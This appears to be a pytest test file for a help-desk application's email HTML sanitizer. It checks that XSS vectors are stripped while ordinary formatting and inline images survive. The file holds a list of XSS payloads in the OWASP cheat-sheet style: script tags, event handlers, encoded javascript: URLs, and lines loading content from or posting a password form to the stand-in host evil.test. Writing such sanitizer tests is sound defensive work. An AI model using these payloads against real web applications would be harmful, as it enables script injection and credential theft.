"""Message HTML is served sanitized: XSS vectors never survive, formatting and inline images do."""

from __future__ import annotations

import re
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from api_harness import OPERATOR
from frontdesk.api.html import safe_html
from frontdesk.ingest.context import IngestContext
from frontdesk.ingest.message import Envelope
from frontdesk.ingest.pipeline import ingest_email
from frontdesk.model import Message

# OWASP XSS filter evasion cheat sheet style vectors, plus mail-specific ones.
NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=/ onerror=alert(String.fromCharCode(88,83,83))></img>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.test/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
    '<form action="https://evil.test/steal"><input name="password" type="password"><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    "<style>@import 'https://evil.test/x.css'; body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="background:url(&#1;javascript:alert(1))">x</div>',
    '<div style="color: re\\d; behavior: url(x.htc)">x</div>',
    '<base href="https://evil.test/">',
    '<a href="/api/v1/tickets">relative</a>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div data-x="1" onmouseover="alert(1)" formaction="javascript:alert(1)">x</div>',
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "input", "button", "meta", "link", "style",
                  "base", "svg", "math", "body", "isindex", "frame", "frameset", "applet"}
_CONTROL = re.compile(r"[\x00-\x20]")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_inert(html: str) -> None:
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_TAGS, html
        for name, value in attrs.items():
            assert not name.startswith("on") and name not in ("formaction", "srcdoc", "background"), html
            if name in ("href", "src", "action", "cite"):
                url = _CONTROL.sub("", value).lower()
                assert re.match(r"(https?|mailto|tel):", url) or url.startswith("/api/v1/attachments/") or (
                    tag == "img" and re.match(r"data:image/(png|gif|jpeg|webp)[;,]", url)), html
            if name == "style":
                assert not re.search(r"url|expression|behavior|\\|import|javascript", value, re.I), html


@pytest.mark.parametrize("vector", NASTY)
def test_no_xss_vector_survives(vector: str) -> None:
    cleaned = safe_html(f"<p>before</p>{vector}<p>after</p>")
    assert_inert(cleaned)
    assert "<p>before</p>" in cleaned


def test_ordinary_formatting_is_kept() -> None:
    html = ('<p>Hello <b>Ada</b>, <i>see</i> <a href="https://acme.test/docs?a=1&amp;b=2">the docs</a>.</p>'
            '<table border="1"><tr><th>Item</th><td style="color: #c00; font-weight: bold">Toner</td></tr></table>'
            "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol><blockquote>quoted</blockquote>"
            '<img src="https://acme.test/logo.png" alt="logo" width="20">')
    cleaned = safe_html(html)
    for kept in ("<b>Ada</b>", "<i>see</i>", '<a href="https://acme.test/docs?a=1&amp;b=2" rel="noopener noreferrer">',
                 "<table", "<th>Item</th>", "color:#c00", "font-weight:bold", "<ul><li>one</li><li>two</li></ul>",
                 "<ol><li>first</li></ol>", "<blockquote>quoted</blockquote>", 'src="https://acme.test/logo.png"'):
        assert kept in cleaned, (kept, cleaned)
    assert_inert(cleaned)


def test_links_get_noopener_noreferrer() -> None:
    assert safe_html('<a href="mailto:ada@example.com" rel="opener">mail</a>') == (
        '<a href="mailto:ada@example.com" rel="noopener noreferrer">mail</a>')


def test_cid_images_point_at_their_attachment_and_unknown_cids_are_dropped() -> None:
    urls = {"logo@acme.test": "/api/v1/attachments/7"}
    cleaned = safe_html('<img src="cid:logo@acme.test"><img src="CID:Logo%40acme.test"><img src="cid:other@x">', urls)
    assert cleaned == '<img src="/api/v1/attachments/7"><img src="/api/v1/attachments/7"><img>'


def test_raster_data_images_are_kept_other_data_urls_are_not() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert safe_html(f'<img src="{png}">') == f'<img src="{png}">'
    assert safe_html(f'<a href="{png}">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_none_stays_none() -> None:
    assert safe_html(None) is None


def html_mail_with_inline_image(png: bytes) -> bytes:
    mail = EmailMessage()
    mail["From"] = "Ada Lovelace <ada@example.com>"
    mail["To"] = "support@acme.test"
    mail["Subject"] = "Screenshot"
    mail["Message-ID"] = "<html-1@example.com>"
    mail.set_content("See the screenshot.")
    mail.add_alternative('<p onclick="alert(1)">See <b>this</b>:</p><img src="cid:shot@example.com">'
                         "<script>alert(document.cookie)</script>", subtype="html")
    mail.get_payload()[1].add_related(png, maintype="image", subtype="png", cid="<shot@example.com>")
    return mail.as_bytes()


async def test_the_api_serves_message_html_sanitized_with_working_inline_images(client, settings, sessions, blobs) -> None:  # type: ignore[no-untyped-def]
    png = b"\x89PNG\r\n\x1a\n fake image"
    raw = html_mail_with_inline_image(png)
    envelope = Envelope(channel="email", source="smtp", rcpt_tos=("support@acme.test",), channel_key="support@acme.test")
    outcome = await ingest_email(IngestContext(settings=settings, sessions=sessions, blobs=blobs), raw, envelope)
    assert outcome.kind == "ticket_created"

    async with client.get(f"/api/v1/tickets/{outcome.ticket_id}", headers=OPERATOR) as response:
        assert response.status == 200
        [message] = (await response.json())["messages"]
    [image] = [a for a in message["attachments"] if a["content_id"] == "shot@example.com"]
    assert message["html"].strip() == f'<p>See <b>this</b>:</p><img src="{image["download_url"]}">'
    async with client.get(image["download_url"], headers=OPERATOR) as response:
        assert await response.read() == png
    async with sessions() as session:  # stored as received
        stored = await session.scalar(select(Message.html_body).where(Message.id == outcome.message_id))
    assert "<script>" in stored and 'onclick="alert(1)"' in stored
    async with client.get(message["raw_url"], headers=OPERATOR) as response:
        assert await response.read() == raw
